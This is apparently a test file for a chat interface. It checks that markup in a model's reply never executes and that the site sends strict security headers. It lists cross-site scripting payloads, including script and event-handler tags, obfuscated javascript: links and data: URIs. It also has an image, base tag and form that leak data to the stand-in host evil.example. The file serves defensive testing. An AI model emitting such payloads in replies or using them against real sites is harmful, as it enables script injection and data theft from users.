/** Markup in a model's reply runs nothing and loads nothing; and the security headers (docs/safety.md 18, 19, 23). */
import { expect, send, test } from './fixtures.ts';

const ATTACKS = [
  '<script>window.canary = 1</script>',
  '<img src=x onerror="window.canary = 1">',
  '<svg onload="window.canary = 1"></svg>',
  '<iframe srcdoc="<script>parent.canary = 1</script>"></iframe>',
  '[click](javascript:window.canary=1)',
  '[click](JaVaScRiPt:window.canary=1)',
  '[click](java\nscript:window.canary=1)',
  '[click](&#106;avascript:window.canary=1)',
  '[click](data:text/html,<script>window.canary=1</script>)',
  '[click](vbscript:window.canary=1)',
  '![x](https://evil.example/pixel.png?secret)',
  '![x](javascript:window.canary=1)',
  '<a href="javascript:window.canary=1">x</a>',
  '```html\n<script>window.canary = 1</script>\n```',
  '[ref]: javascript:window.canary=1\n\n[ref]',
  '<style>body{display:none}</style>',
  '<math><mtext><script>window.canary=1</script></mtext></math>',
  '| <img src=x onerror=window.canary=1> | b |\n|---|---|\n| <script>window.canary=1</script> | [x](javascript:window.canary=1) |',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
];

test('markup in a reply does not run, however it is cut while streaming', async ({
  chat,
  stack,
  context,
}) => {
  const dialogs: string[] = [];
  chat.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  for (const [i, attack] of ATTACKS.entries()) {
    stack.replyWith(...attack, `\n\nEnd of ${i}.`);
    await send(chat, `Attack ${i}`);
    await expect(chat.getByText(`End of ${i}.`)).toBeVisible();
  }
  const found = await chat.getByRole('log').evaluate((log) => ({
    canary: 'canary' in globalThis,
    elements: log.querySelectorAll(
      'script, iframe, object, embed, form, style, base, svg[onload], img[onerror]',
    ).length,
    handlers: [...log.querySelectorAll('*')].filter((e) =>
      e.getAttributeNames().some((name: string) => name.startsWith('on')),
    ).length,
    links: [...log.querySelectorAll('a')].map((a) => a.protocol).filter((p) => !/^(https?|mailto):$/.test(p)),
    images: [...log.querySelectorAll('img')].map((img) => img.src).filter((src) => /evil/.test(src)),
  }));
  expect(found).toEqual({ canary: false, elements: 0, handlers: 0, links: [], images: [] });
  expect(dialogs).toEqual([]);
  // The site's headers allow the worker that highlights code, and the clipboard.
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  stack.replyWith('```js\nconst answer = 42;\n```');
  await send(chat, 'Code, please');
  const code = chat.getByRole('figure', { name: 'Code in js' });
  await expect(code.locator('pre span').first()).toBeVisible();
  await code.getByRole('button', { name: 'Copy code' }).click();
  await expect.poll(() => chat.evaluate('navigator.clipboard.readText()')).toBe('const answer = 42;');
});

test('every response carries the security headers of the templates', async ({ page }) => {
  const response = await page.goto('/');
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['content-security-policy']).not.toMatch(/unsafe-(inline|eval)/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['x-frame-options']).toBe('DENY');
});
